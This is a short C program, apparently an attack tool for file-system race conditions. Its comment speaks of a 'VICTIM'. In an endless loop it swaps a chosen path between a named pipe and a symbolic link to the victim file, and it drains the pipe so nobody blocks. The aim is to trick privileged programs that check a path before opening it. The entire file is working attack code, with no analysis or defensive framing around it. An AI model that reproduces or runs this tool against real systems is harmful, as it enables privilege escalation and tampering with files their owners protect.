// swap_stream NAME VICTIM: what has the name is now a pipe, now a link to the victim, as often as possible.
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3) return 1;
    // The pipe has room and a reader, so that nobody waits for it.
    mkfifo("pipe", 0666);
    int both = open("pipe", O_RDWR | O_NONBLOCK);
    char drain[65536];
    for (;;) {
        link("pipe", "next");
        rename("next", argv[1]);
        while (read(both, drain, sizeof drain) > 0) continue;
        (void)!symlink(argv[2], "next");
        rename("next", argv[1]);
    }
}
